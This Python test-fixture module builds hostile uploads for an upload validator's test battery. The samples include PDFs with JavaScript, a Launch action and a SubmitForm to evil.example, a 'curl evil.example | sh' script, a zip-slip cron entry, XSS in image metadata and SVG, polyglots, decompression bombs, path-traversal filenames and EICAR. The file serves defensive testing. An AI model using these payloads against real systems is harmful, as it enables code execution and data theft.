"""Hostile uploads, built on the spot (issue 12, "Uploads"): each kind is a file (bytes and a
name) and what must become of it: REFUSED (a message, nothing stored) or NEUTRALISED (stored in a
harmless form: an image re-encoded without what it carried, a file name cleaned)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from tests.clamd import EICAR
from tests.test_uploads import (
    CONTENT_TYPES_XML,
    document_xml,
    make_gif,
    make_jpeg,
    make_pdf,
    make_png,
    make_zip_bomb,
)
from tests.test_uploads import pdf_from as _pdf_from

REFUSED = "refused"
NEUTRALISED = "neutralised"  # an image re-encoded: what it carried is gone
RENAMED = "renamed"  # a clean file with a hostile name: stored under a cleaned name


@dataclass(frozen=True)
class Hostile:
    kind: str
    data: bytes
    name: str
    outcome: str = REFUSED
    needs_scanner: bool = False
    # A fragment of the refusal message (forms and API), when the kind has its own.
    says: str = ""


# --- PDFs --------------------------------------------------------------------------------------


def pdf_from(objects: list[bytes], *, trailer_extra: bytes = b"", tail: bytes = b"") -> bytes:
    """A PDF of `objects` (1 is the catalog) with a binary-marked 1.7 header and a correct xref;
    `tail` is appended after it."""
    return _pdf_from(
        objects,
        header=b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        trailer_extra=trailer_extra,
        tail=tail,
    )


def _page_pdf(*, catalog_extra: bytes = b"", page_extra: bytes = b"", more: list[bytes] = ()):
    stream = b"BT /F1 18 Tf 72 720 Td (hello) Tj ET"
    return pdf_from(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
            b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *more,
        ]
    )


JS = b"<< /S /JavaScript /JS (app.alert\\('pwned'\\)) >>"


def pdf_js_in_object_stream() -> bytes:
    """PDF 1.5: the catalog, pages and a JavaScript OpenAction live inside a compressed object
    stream, named only by a compressed cross-reference stream."""
    inner = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    ]
    header, body, offset = b"", b"", 0
    for number, obj in enumerate(inner, start=1):
        header += b"%d %d " % (number, offset)
        body += obj + b"\n"
        offset += len(obj) + 1
    packed = zlib.compress(header + body)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    objstm_at = len(out)
    out += (
        b"5 0 obj\n<< /Type /ObjStm /N 4 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream\nendobj\n"
    )
    xref_at = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 2, 5, i) for i in range(4)]
    rows += [struct.pack(">BIH", 1, objstm_at, 0), struct.pack(">BIH", 1, xref_at, 0)]
    table = zlib.compress(b"".join(rows))
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n" % len(table) + table + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def pdf_encrypted() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_embedded_file() -> bytes:
    payload = b"MZ fake program"
    return _page_pdf(
        catalog_extra=b"/Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >> ",
        more=[
            b"<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(payload)
            + payload
            + b"\nendstream",
        ],
    )


# --- images ------------------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A few hundred bytes that claim ten billion pixels (a decompression bomb)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 4096, 9))
        + _png_chunk(b"IEND", b"")
    )


def gif_bomb() -> bytes:
    """A GIF whose screen and one frame claim 65,535 × 65,535 pixels."""
    return (
        b"GIF89a"
        + struct.pack("<HH", 65535, 65535)
        + b"\x00\x00\x00"
        + b"\x2c"
        + struct.pack("<HHHH", 0, 0, 65535, 65535)
        + b"\x00\x02\x02\x4c\x01\x00\x3b"
    )


def noisy_png(size: int = 64) -> bytes:
    from PIL import Image

    image = Image.frombytes("RGB", (size, size), bytes((i * 37) % 256 for i in range(size**2 * 3)))
    out = io.BytesIO()
    image.save(out, format="PNG")
    return out.getvalue()


def png_with_text_chunk() -> bytes:
    png = make_png()
    text = _png_chunk(b"tEXt", b"Comment\x00<script>alert(document.cookie)</script>")
    return png[:33] + text + png[33:]  # after IHDR (8 + 25 bytes)


def jpeg_with_exif_payload() -> bytes:
    from PIL import Image

    exif = Image.Exif()
    exif[0x010E] = "<html><script>alert(1)</script></html>"  # ImageDescription
    exif[0x0112] = 6  # orientation: rotate on display
    out = io.BytesIO()
    Image.new("RGB", (4, 2), (10, 200, 10)).save(out, format="JPEG", exif=exif.tobytes())
    return out.getvalue()


def _zip(entries: dict[str, bytes], *, encrypted: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    data = bytearray(buffer.getvalue())
    if encrypted:  # zipfile cannot encrypt: mark every entry encrypted after the fact
        for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = data.find(signature)
            while at != -1:
                data[at + flag_at] |= 0x1
                at = data.find(signature, at + 4)
    return bytes(data)


HTML = b"<html><body><script>fetch('/admin/').then(r=>r.text()).then(alert)</script></body></html>"
JAR = _zip(
    {
        "META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\nMain-Class: Evil\n",
        "Evil.class": b"\xca\xfe\xba\xbe",
    }
)


def _docx_with(extra: dict[str, bytes], content_types: bytes = CONTENT_TYPES_XML.encode()) -> bytes:
    return _zip(
        {
            "[Content_Types].xml": content_types,
            "word/document.xml": document_xml(["第一条"]).encode(),
            **extra,
        }
    )


def kinds(oversize_limit: int) -> list[Hostile]:
    """Every kind of hostile upload of the battery; `oversize_limit` is the upload limit."""
    png = noisy_png()
    jpeg = make_jpeg((16, 16))
    return [
        # PDFs with active content
        Hostile(
            "pdf-js-openaction",
            _page_pdf(catalog_extra=b"/OpenAction " + JS + b" "),
            "a.pdf",
            says="JavaScript",
        ),
        Hostile(
            "pdf-js-page-aa",
            _page_pdf(page_extra=b"/AA << /O " + JS + b" >> "),
            "a.pdf",
            says="JavaScript",
        ),
        Hostile(
            "pdf-js-names-tree",
            _page_pdf(
                catalog_extra=b"/Names << /JavaScript << /Names [(x) 6 0 R] >> >> ", more=[JS]
            ),
            "a.pdf",
            says="JavaScript",
        ),
        Hostile(
            "pdf-launch",
            _page_pdf(
                catalog_extra=b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> "
            ),
            "a.pdf",
            says="Launch",
        ),
        Hostile("pdf-embedded-file", pdf_embedded_file(), "a.pdf", says="EmbeddedFile"),
        Hostile(
            "pdf-file-attachment-annot",
            _page_pdf(
                page_extra=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /F (x.exe) >> >>] "
            ),
            "a.pdf",
            says="EmbeddedFile",
        ),
        Hostile(
            "pdf-obfuscated-name",
            _page_pdf(
                catalog_extra=b"/OpenAction << /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >> "
            ),
            "a.pdf",
            says="JavaScript",
        ),
        Hostile("pdf-js-in-object-stream", pdf_js_in_object_stream(), "a.pdf", says="JavaScript"),
        # an object no cross-reference names, after the end: a repairing reader may still run it
        Hostile(
            "pdf-js-orphan-object",
            _page_pdf() + b"9 0 obj\n" + JS + b"\nendobj\n",
            "a.pdf",
            says="JavaScript",
        ),
        Hostile(
            "pdf-xfa",
            _page_pdf(
                catalog_extra=b"/AcroForm << /Fields [] /XFA [(template) 6 0 R] >> ",
                more=[b"<< /Length 0 >>\nstream\n\nendstream"],
            ),
            "a.pdf",
            says="XFA",
        ),
        Hostile(
            "pdf-richmedia",
            _page_pdf(
                page_extra=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>] "
            ),
            "a.pdf",
            says="RichMedia",
        ),
        Hostile(
            "pdf-submitform",
            _page_pdf(
                catalog_extra=b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >> "
            ),
            "a.pdf",
            says="SubmitForm",
        ),
        Hostile(
            "pdf-importdata",
            _page_pdf(catalog_extra=b"/OpenAction << /S /ImportData /F (data.fdf) >> "),
            "a.pdf",
            says="ImportData",
        ),
        Hostile("pdf-damaged", b"%PDF-1.4\n" + b"\x00garbage" * 50, "a.pdf", says="损坏"),
        Hostile("pdf-encrypted", pdf_encrypted(), "a.pdf", says="加密"),
        # images: neutralised (re-encoded) or refused
        Hostile("png-html-polyglot", png + HTML, "a.png", NEUTRALISED),
        Hostile("jpeg-zip-polyglot", jpeg + _zip({"evil.html": HTML}), "a.jpg", NEUTRALISED),
        Hostile("gifar", make_gif((8, 8)) + JAR, "a.gif", NEUTRALISED),
        Hostile("png-script-in-text-chunk", png_with_text_chunk(), "a.png", NEUTRALISED),
        Hostile("jpeg-exif-payload", jpeg_with_exif_payload(), "a.jpg", NEUTRALISED),
        Hostile("png-decompression-bomb", png_bomb(), "a.png", says="像素"),
        Hostile("gif-decompression-bomb", gif_bomb(), "a.gif", says="像素"),
        Hostile("png-truncated", png[: len(png) // 2], "a.png", says="损坏"),
        Hostile("jpeg-truncated", jpeg[: len(jpeg) // 2], "a.jpg", says="损坏"),
        Hostile(
            "png-bad-crc",
            png[:-20] + bytes(b ^ 0xFF for b in png[-20:-12]) + png[-12:],
            "a.png",
            says="损坏",
        ),
        # not a type we take
        Hostile(
            "svg-with-script",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "a.png",
            says="SVG",
        ),
        Hostile("html-named-pdf", HTML, "a.pdf", says="HTML"),
        Hostile(
            "exe-named-pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200, "a.pdf", says="可执行"
        ),
        Hostile("elf", b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "a.pdf", says="可执行"),
        Hostile("shell-script", b"#!/bin/sh\ncurl evil.example | sh\n", "a.pdf", says="脚本"),
        Hostile(
            "macro-docx",
            _docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
            "a.docx",
            says="宏",
        ),
        Hostile(
            "docm-content-type",
            _docx_with(
                {},
                CONTENT_TYPES_XML.replace(
                    "document.main+xml", "document.macroEnabled.main+xml"
                ).encode(),
            ),
            "a.docx",
            says="宏",
        ),
        Hostile("zip-bomb-docx", make_zip_bomb(), "a.docx", says="压缩"),
        Hostile(
            "zip-slip-docx",
            _docx_with({"../../../../etc/cron.d/evil": b"* * * * * root sh"}),
            "a.docx",
            says="路径",
        ),
        Hostile(
            "absolute-path-docx", _docx_with({"/etc/passwd": b"root::0:0"}), "a.docx", says="路径"
        ),
        Hostile(
            "too-many-entries-zip",
            _docx_with({f"x/{i}.xml": b"" for i in range(2100)}),
            "a.docx",
            says="过多",
        ),
        Hostile(
            "encrypted-zip",
            _zip(
                {"[Content_Types].xml": CONTENT_TYPES_XML.encode(), "word/document.xml": b"x"},
                encrypted=True,
            ),
            "a.docx",
            says="加密",
        ),
        Hostile("corrupt-zip", b"PK\x03\x04" + b"\xff" * 100, "a.docx", says="损坏"),
        Hostile(
            "old-word-doc",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500,
            "a.doc",
            says="旧版",
        ),
        Hostile("rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 100, "a.pdf", says="压缩包"),
        Hostile("7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 100, "a.pdf", says="压缩包"),
        Hostile("gzip", b"\x1f\x8b\x08\x00" + b"\x00" * 100, "a.pdf", says="压缩包"),
        Hostile("empty", b"", "a.pdf"),
        Hostile("oversize", make_pdf(padding=oversize_limit), "a.pdf", says="大小上限"),
        # clean content, hostile names: stored under a cleaned name
        Hostile("null-byte-name", make_pdf(), "报告.pdf\x00.exe", RENAMED),
        Hostile("rtl-override-name", make_pdf(), "报告\u202efdp.exe", RENAMED),
        Hostile("long-name", make_pdf(), "报" * 400 + ".pdf", RENAMED),
        Hostile("path-name", make_pdf(), "../../../etc/passwd", RENAMED),
        # malware (the EICAR test file) with a scanner
        Hostile("eicar", EICAR, "a.pdf", needs_scanner=True, says="恶意代码"),
        Hostile("eicar-named-docx", EICAR, "合同.docx", needs_scanner=True, says="恶意代码"),
    ]
